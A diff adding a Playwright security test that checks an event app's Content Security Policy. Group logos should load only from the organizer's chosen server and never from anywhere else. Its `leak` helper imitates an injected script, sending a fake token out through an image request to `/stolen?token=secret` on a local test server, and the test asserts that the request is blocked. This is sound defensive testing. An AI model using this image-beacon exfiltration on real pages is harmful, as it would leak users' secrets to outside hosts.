@@ -1,0 +1,113 @@
+/** Pictures from other servers: shown where an organizer chose them, and no way out for anything else. */
+import { createServer, type Server } from "node:http";
+import type { AddressInfo } from "node:net";
+
+import type { Locator, Page } from "@playwright/test";
+
+import { beOrganizer, makeEvent, makeGroup, patch } from "./support/event.ts";
+import { DESK, expect, PHONE, test } from "./support/test.ts";
+
+const PNG = Buffer.from(
+  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
+  "base64",
+);
+
+interface PictureServer {
+  url: string;
+  asked: string[];
+  server: Server;
+}
+
+async function servePictures(): Promise<PictureServer> {
+  const asked: string[] = [];
+  const server = createServer((request, response) => {
+    asked.push(request.url ?? "");
+    response.writeHead(200, { "Content-Type": "image/png", "Cache-Control": "no-store" }).end(PNG);
+  });
+  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, asked, server };
+}
+
+let chosen: PictureServer;
+let other: PictureServer;
+test.beforeAll(async () => {
+  [chosen, other] = await Promise.all([servePictures(), servePictures()]);
+});
+test.afterAll(() => {
+  for (const { server } of [chosen, other]) {
+    server.closeAllConnections();
+    server.close();
+  }
+});
+
+const logoOf = (page: Page): Locator => page.locator("img.group-logo");
+
+async function expectLoaded(picture: Locator): Promise<void> {
+  await expect(picture).toBeVisible();
+  await expect
+    .poll(() => picture.evaluate((image: HTMLImageElement) => image.complete && image.naturalWidth > 0))
+    .toBe(true);
+}
+
+/** What an injected script would do: ask for a picture whose address carries what it has found. */
+function leak(page: Page, to: string): Promise<string> {
+  return page.evaluate(
+    (address) =>
+      new Promise<string>((resolve) => {
+        const image = new Image();
+        image.addEventListener("load", () => resolve("loaded"));
+        image.addEventListener("error", () => resolve("blocked"));
+        image.src = address;
+      }),
+    `${to}/stolen?token=secret`,
+  );
+}
+
+test("[SEC-14] a group's page shows its pictures, also reached from another page, and loads none from elsewhere", async ({
+  hubbub,
+  people,
+}) => {
+  const owner = await people.open(DESK);
+  await beOrganizer(owner, hubbub);
+  const group = await makeGroup(owner, "Northlight Conference", "northlight-pictures");
+  await patch(owner, `/api/event-groups/${group.id}`, { logoUrl: `${chosen.url}/logo.png` });
+  const event = await makeEvent(owner);
+  await patch(owner, `/api/events/${event.id}`, { groupId: group.id });
+
+  const blocked = /Content Security Policy/u;
+  const phone = await people.open({ ...PHONE, errorsExpected: blocked });
+  await phone.goto(`/event/${event.id}`);
+  for (const { url } of [chosen, other]) expect(await leak(phone, url)).toBe("blocked");
+  await phone.getByRole("link", { name: "Northlight Conference" }).click();
+  await phone.waitForURL("**/engage/northlight-pictures");
+  await expectLoaded(logoOf(phone));
+  expect(await leak(phone, other.url)).toBe("blocked");
+  expect(other.asked).toEqual([]);
+  expect(chosen.asked.every((address) => address === "/logo.png")).toBe(true);
+  // Back and on again within one document.
+  await phone.goBack();
+  await expect(phone.getByText("Connected to live updates")).toBeVisible();
+  await phone.goForward();
+  await expectLoaded(logoOf(phone));
+
+  // The owner's pages lead to the group's by links of the app, too; a picture of another server waits for a reload.
+  await owner.goto("/admin?tab=groups");
+  await owner
+    .getByRole("link", { name: /Northlight Conference/u })
+    .first()
+    .click();
+  await owner.waitForURL("**/admin/groups/northlight-pictures");
+  await expectLoaded(owner.locator("img.picture-logo"));
+  await owner.getByLabel("Logo address").fill(`${other.url}/new-logo.png`);
+  await owner.getByLabel("Logo address").press("Enter");
+  await expect(owner.getByText("This picture appears when you reload this page.")).toBeVisible();
+
+  // A page that was open before goes without the new picture, silently, until it is loaded anew.
+  await expect(logoOf(phone)).toBeHidden();
+  await expect(phone.locator(".group-logo-default")).toBeVisible();
+  await phone.reload();
+  await expectLoaded(logoOf(phone));
+  await owner.reload();
+  await expectLoaded(owner.locator("img.picture-logo"));
+  expect(new Set(other.asked)).toEqual(new Set(["/new-logo.png"]));
+});
